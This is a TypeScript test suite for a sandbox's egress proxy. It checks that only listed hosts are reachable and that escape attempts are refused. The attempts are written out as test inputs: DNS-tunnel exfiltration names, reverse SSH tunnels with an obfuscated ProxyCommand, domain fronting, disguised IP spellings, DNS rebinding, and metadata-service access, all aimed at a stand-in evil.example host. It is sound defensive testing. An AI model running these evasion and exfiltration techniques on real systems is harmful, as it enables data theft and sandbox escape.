import { createServer as createUnix } from 'node:net';
import { createServer as createPlain } from 'node:http';
import { createSocket } from 'node:dgram';
import { WebSocketServer } from 'ws';
import { describe, expect, it, onTestFinished, vi } from 'vitest';
import type { DriverKind } from '../../src/sandbox/driver.ts';
import { isolatingKinds } from '../support/sandbox.ts';
import { startLimited } from '../support/limited.ts';
import { bodyOf, listen, OutsideWorld } from '../support/outside-world.ts';

vi.setConfig({ testTimeout: 60_000 });

const kinds = isolatingKinds();

const [ALLOWED, EVIL, FRONTED] = ['packages.example', 'evil.example', 'fronted.example'];
const [ALLOWED_AT, EVIL_AT] = ['93.184.216.1', '93.184.216.66'];

/** A world with one host that is allowed, one that is not, and a server of this machine's own. */
async function makeWorld() {
  const world = new OutsideWorld([ALLOWED, EVIL, FRONTED]);
  await world.host(ALLOWED, ALLOWED_AT, {
    http: (request, response) => void bodyOf(request).then((text) => response.end(`allowed ${request.headers.host} ${text}`)),
    https: (request, response) => response.end(`allowed over TLS ${request.url}`),
  });
  const stolen: string[] = [];
  const evil = {
    http: (request: { url?: string }, response: { end(text: string): void }) => (stolen.push(request.url ?? ''), response.end('EVIL')),
  };
  await world.host(EVIL, EVIL_AT, { http: evil.http as never, https: evil.http as never });
  return { world, stolen };
}

async function limited(kind: DriverKind) {
  const made = await makeWorld();
  const workspace = await startLimited(made.world, { hosts: [ALLOWED] }, { kind });
  return { ...made, ...workspace };
}

/** Runs a few lines of Python in the sandbox. */
const python = (lines: string) => `python3 - <<'END' 2>&1\nimport socket,ssl,sys\n${lines}\nEND`;
/** Speaks to the proxy byte by byte. */
const speak = (...said: string[]) =>
  python(
    `s=socket.create_connection(('127.0.0.1',3128),5); s.settimeout(3)\n${said
      .map((each) => `s.sendall(${JSON.stringify(each)}.encode('latin1'))\nprint(s.recv(4096).decode('latin1'))`)
      .join('\n')}`,
  );
const connectTo = (place: string) => `CONNECT ${place} HTTP/1.1\r\nHost: ${place}\r\n\r\n`;

describe.each(kinds)('what is let through, in a %s sandbox', (kind) => {
  it('is the hosts that are listed, over HTTP and TLS, and what went there is counted', async () => {
    const { run, wayOut, told } = await limited(kind);
    expect(await run(`curl -sS http://${ALLOWED}/one -d hello`)).toBe(`allowed ${ALLOWED} hello`);
    expect(await run(`curl -sSk https://${ALLOWED}/two`)).toBe('allowed over TLS /two');
    wayOut.close();
    const used = told.all.filter(({ what }) => what === 'used');
    expect(used).toMatchObject([
      { host: ALLOWED, port: 80, connections: 1 },
      { host: ALLOWED, port: 443, connections: 1 },
    ]);
    for (const each of used) expect(each.what === 'used' && each.sent > 50 && each.received > 50).toBe(true);
  });

  it('is nothing once the policy says so, also for what runs already', async () => {
    const { world } = await makeWorld();
    const workspace = await startLimited(world, { hosts: [ALLOWED] });
    const fetch = `curl -sS http://${ALLOWED}/`;
    expect(await workspace.run(fetch)).toContain('allowed');
    workspace.ways = { ...workspace.ways, mode: 'none' };
    expect(await workspace.run(fetch)).toContain('Nothing may leave this workspace');
    workspace.ways = { mode: 'allow-list', network: { ...workspace.ways.network, hosts: [] } };
    expect(await workspace.run(fetch)).toContain('not on the list of hosts');
  });
});

describe.each(kinds)('there is no network but the proxy, in a %s sandbox', (kind) => {
  it('for raw TCP, UDP and ICMP, to the internet, the machine, or the metadata service', async () => {
    const port = await listen(createPlain((_request, response) => response.end('the machine')));
    const { run } = await limited(kind);
    const output = await run(
      python(`
for place in [('93.184.216.66',80),('127.0.0.1',${port}),('10.0.0.1',22),('169.254.169.254',80)]:
    try: socket.create_connection(place,3); print('connected',place)
    except OSError as e: print('no', e.errno)
for kind,proto in [(socket.SOCK_DGRAM,socket.IPPROTO_UDP),(socket.SOCK_DGRAM,socket.IPPROTO_ICMP),(socket.SOCK_RAW,socket.IPPROTO_ICMP)]:
    try: socket.socket(socket.AF_INET,kind,proto).sendto(b'x'*8,('93.184.216.66',53)); print('sent')
    except OSError as e: print('no', e.errno)
try: socket.socket(socket.AF_PACKET,socket.SOCK_RAW); print('packet')
except OSError as e: print('no', e.errno)`),
    );
    expect(output).not.toMatch(/connected|sent|packet/);
    expect(output.match(/no \d+/g)).toHaveLength(8);
    expect(await run('tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " "')).toBe('lo');
  });

  it('for DNS: no name is resolved inside, and none carries anything out', async () => {
    const heard: string[] = [];
    const resolver = createSocket('udp4', (message) => heard.push(message.toString('latin1')));
    await new Promise<void>((resolve) => resolver.bind(0, '127.0.0.1', resolve));
    onTestFinished(() => void resolver.close());
    const { run, world } = await limited(kind);
    const output = await run(
      python(`
for name in ['c2VjcmV0.tunnel.evil.example','${ALLOWED}']:
    try: print('resolved', socket.getaddrinfo(name,80))
    except OSError as e: print('no')
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)
try:
    s.sendto(b'query',('127.0.0.1',53)); s.recv(10); print('answered')
except OSError as e: print('no')`),
    );
    expect(output).toBe('no\nno\nno');
    expect(await run('cat /etc/resolv.conf')).toContain('No name is resolved in this workspace');
    // Through the proxy the name is looked at before anybody is asked for it.
    await run('curl -sS http://c2VjcmV0.tunnel.evil.example/');
    expect(world.asked.all).toEqual([]);
    expect(heard).toEqual([]);
  });

  it('for abstract sockets of the machine', async () => {
    const name = `\0gatehouse-test-${process.pid}`;
    const server = createUnix((socket) => socket.end('the machine'));
    await new Promise<void>((resolve) => server.listen(name, resolve));
    onTestFinished(() => void server.close());
    const { run } = await limited(kind);
    const attempt = `s=socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('\\0gatehouse-test-${process.pid}'); print(s.recv(99))\nexcept OSError as e: print('no')`;
    expect(await run(python(attempt))).toBe('no');
  });

  it('for the runner’s sockets: what is there is the proxies, and can’t be replaced', async () => {
    const { run } = await limited(kind);
    expect(
      await run('ls /run/gatehouse | tr "\\n" " "; rm -f /run/gatehouse/web.sock; touch /run/gatehouse/x; ls /run/gatehouse | wc -l'),
    ).toMatch(/^git.sock web.sock [\s\S]*\n2$/);
  });
});

describe.each(kinds)('the web proxy refuses, in a %s sandbox', (kind) => {
  it('a host that is not listed, says so in words, and tells it once a minute with a count', async () => {
    const { run, stolen, told, notices, clock, world } = await limited(kind);
    const hint = `Blocked by your organisation’s egress policy: host ${EVIL}. It is not on the list of hosts. Ask an administrator of the template if you need it.`;
    expect(await run(`curl -sS http://${EVIL}/a`)).toBe(hint);
    expect(await run(`curl -sS https://${EVIL}/b 2>&1`)).toContain('403');
    await run(`curl -sS http://${EVIL}/c; curl -sS http://${EVIL}/d`);
    expect(told.all).toEqual([{ what: 'refused', host: EVIL, port: 80, why: 'it is not on the list of hosts', count: 1 }]);
    expect(notices.all).toEqual([hint]);
    clock.pass(60_000);
    expect(told.all.slice(1)).toEqual([{ what: 'refused', host: EVIL, port: 80, why: 'it is not on the list of hosts', count: 3 }]);
    clock.pass(600_000);
    expect(told.all).toHaveLength(2);
    expect([stolen, world.asked.all, world.dialled.all]).toEqual([[], [], []]);
  });

  it('a client that opens a tunnel as `code tunnel` does: TLS and a WebSocket to a relay', async () => {
    const { run, stolen, told } = await limited(kind);
    expect(await run(speak(connectTo(`global.rel.tunnels.${EVIL}:443`)))).toMatch(/^HTTP\/1.1 403/);
    expect(await run(`curl -sSk -H "Connection: Upgrade" -H "Upgrade: websocket" https://${EVIL}/ws 2>&1`)).toContain('403');
    expect(told.all.map((each) => each.what === 'refused' && each.host)).toEqual([`global.rel.tunnels.${EVIL}`, EVIL]);
    expect(stolen).toEqual([]);
  });

  it('`ssh -R`, directly and through the proxy, also where the host is listed', async () => {
    const { run, told, world } = await limited(kind);
    const ssh = 'ssh -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=5 -N -R 9000:localhost:22';
    expect(await run(`${ssh} dev@${EVIL_AT} 2>&1`)).toMatch(/unreachable/i);
    const through = `-o ProxyCommand='python3 -c "import socket,sys,threading,os
s=socket.create_connection((chr(49)+chr(50)+chr(55)+chr(46)+chr(48)+chr(46)+chr(48)+chr(46)+chr(49),3128)); s.sendall(b\\"CONNECT %h:443 HTTP/1.1\\\\r\\\\nHost: %h:443\\\\r\\\\n\\\\r\\\\n\\"); s.recv(999)
s.sendall(b\\"SSH-2.0-x\\\\r\\\\n\\"); sys.stderr.write(repr(s.recv(99)))"'`;
    expect(await run(`timeout 10 ${ssh} ${through} dev@${ALLOWED} 2>&1`)).toContain("b''");
    expect(told.all).toMatchObject([{ what: 'refused', host: ALLOWED, why: 'only TLS goes to port 443' }]);
    expect(world.dialled.all).toEqual([`${ALLOWED_AT}:443`]);
    expect(await run(speak(connectTo(`${ALLOWED}:22`)))).toMatch(/^HTTP\/1.1 403[\s\S]*Port 22 of it is not on the list/);
  });

  it('a WebSocket to a host that is not listed; one to a listed host reaches that host alone', async () => {
    const made = await makeWorld();
    const plain = createPlain();
    const sockets = new WebSocketServer({ server: plain });
    sockets.on('connection', (socket, request) => socket.send(`hello from ${request.headers.host}`));
    made.world.at(ALLOWED_AT, 80, await listen(plain));
    const { run, told } = await startLimited(made.world, { hosts: [ALLOWED] }, { kind });
    const upgrade = (host: string, at = host) =>
      `GET http://${at}/ HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`;
    expect(await run(speak(upgrade(EVIL)))).toMatch(/^HTTP\/1.1 403/);
    expect(await run(speak(upgrade(EVIL, ALLOWED)))).toMatch(/^HTTP\/1.1 403[\s\S]*The Host of a request/);
    const allowed = await run(speak(upgrade(ALLOWED), ''));
    expect(allowed).toMatch(/^HTTP\/1.1 101/);
    expect(allowed).toContain(`hello from ${ALLOWED}`);
    expect(told.all).toMatchObject([{ what: 'refused', host: EVIL }]);
    expect(made.stolen).toEqual([]);
  });

  it('domain fronting: TLS that names another host or none, and a Host that is another one', async () => {
    const { run, told, stolen } = await limited(kind);
    const tls = (name: string) =>
      python(`
s=socket.create_connection(('127.0.0.1',3128),5); s.sendall(b${JSON.stringify(connectTo(`${ALLOWED}:443`))}); print(s.recv(99).split(b' ')[1])
c=ssl._create_unverified_context()
try: c.wrap_socket(s,server_hostname=${name}); print('spoke')
except OSError as e: print('cut')`);
    expect(await run(tls(`'${ALLOWED}'`))).toBe("b'200'\nspoke");
    expect(await run(tls(`'${FRONTED}'`))).toBe("b'200'\ncut");
    expect(await run(tls('None'))).toBe("b'200'\ncut");
    expect(await run(`curl -sS http://${ALLOWED}/ -H 'Host: ${FRONTED}'`)).toContain(
      'The Host of a request must be the host it is sent to',
    );
    const tunnelled = speak(connectTo(`${ALLOWED}:80`), `GET / HTTP/1.1\r\nHost: ${FRONTED}\r\n\r\n`);
    expect(await run(tunnelled)).toMatch(/200 Connection established[\s\S]*HTTP\/1.1 403/);
    // The second request of a connection is looked at like the first.
    const second = speak(
      connectTo(`${ALLOWED}:80`),
      `GET /1 HTTP/1.1\r\nHost: ${ALLOWED}\r\n\r\n`,
      `GET /2 HTTP/1.1\r\nHost: ${FRONTED}\r\n\r\n`,
    );
    expect(await run(second)).toMatch(/200 OK[\s\S]*HTTP\/1.1 403/);
    expect(told.all[0]).toMatchObject({ host: ALLOWED, why: `TLS names another host, ${FRONTED}` });
    expect(stolen).toEqual([]);
  });

  it('addresses in numbers, however they are written', async () => {
    const { run, world, stolen } = await limited(kind);
    const spellings = [
      EVIL_AT,
      '1572395074',
      '0135.0270.0330.0102',
      '0x5db8d842',
      '0x5d.0xb8.0xd8.0x42',
      '127.1',
      '[::1]',
      '[::ffff:93.184.216.66]',
      '127.0.0.1.',
    ];
    for (const address of [...spellings, `${EVIL_AT}.`]) {
      expect(await run(speak(connectTo(`${address}:443`))), address).toMatch(/^HTTP\/1.1 403/);
      const plain = `GET http://${address}/ HTTP/1.1\r\nHost: ${address}\r\n\r\n`;
      expect(await run(speak(plain)), address).toMatch(/^HTTP\/1.1 403/);
    }
    expect([world.dialled.all, stolen]).toEqual([[], []]);
  }, 60_000);

  it('names that lead into private networks, to the machine or the metadata service, now or at the next look', async () => {
    const { run, world, told } = await limited(kind);
    const inside = [
      '10.0.0.5',
      '192.168.1.1',
      '172.16.0.1',
      '100.64.0.1',
      '127.0.0.1',
      '::1',
      'fd00::1',
      '10.9.9.9',
      '169.254.169.254',
      'fe80::1',
      '0.0.0.0',
      '64:ff9b::a00:5',
      '::ffff:10.0.0.5',
    ];
    for (const address of inside) {
      world.names.set(ALLOWED, [ALLOWED_AT, address]);
      expect(await run(`curl -sS http://${ALLOWED}/`), address).toMatch(
        /its name leads (into a private network|to the machine itself|to a reserved address)/i,
      );
    }
    expect(world.dialled.all).toEqual([]);
    expect(told.all).toHaveLength(1);
    // Rebinding: the name changes between the look and the connection, which goes where was looked.
    let looks = 0;
    world.lookup = () => Promise.resolve([[ALLOWED_AT], ['127.0.0.1']][looks++] ?? []);
    expect(await run(`curl -sS http://${ALLOWED}/`)).toContain('allowed');
    expect(world.dialled.all).toEqual([`${ALLOWED_AT}:80`]);
  }, 60_000);

  it('proxies behind proxies: a tunnel in a tunnel, and an absolute address in one', async () => {
    const { run, stolen } = await limited(kind);
    const inner = (request: string) => run(speak(connectTo(`${ALLOWED}:80`), request));
    expect(await inner(connectTo(`${EVIL}:443`))).toMatch(/HTTP\/1.1 403[\s\S]*tunnel in a tunnel/);
    expect(await inner(`GET http://${EVIL}/ HTTP/1.1\r\nHost: ${EVIL}\r\n\r\n`)).toMatch(/HTTP\/1.1 403[\s\S]*proxy behind a host/);
    expect(await run(speak(connectTo(`${ALLOWED}:443`), connectTo(`${EVIL}:443`)))).not.toMatch(/200[\s\S]*200/);
    expect(await run(speak(`GET /no-proxy HTTP/1.1\r\nHost: ${EVIL}\r\n\r\n`))).toMatch(/^HTTP\/1.1 403/);
    expect(stolen).toEqual([]);
  });

  it('git hosts, whatever is listed', async () => {
    const made = await makeWorld();
    const git = { fetch: [`https://${ALLOWED}/acme/app`], push: [] };
    const { run } = await startLimited(made.world, { hosts: [ALLOWED], git });
    expect(await run(speak(connectTo(`${ALLOWED}:443`)))).toMatch(/^HTTP\/1.1 403[\s\S]*Repositories are reached with git/);
  });
});
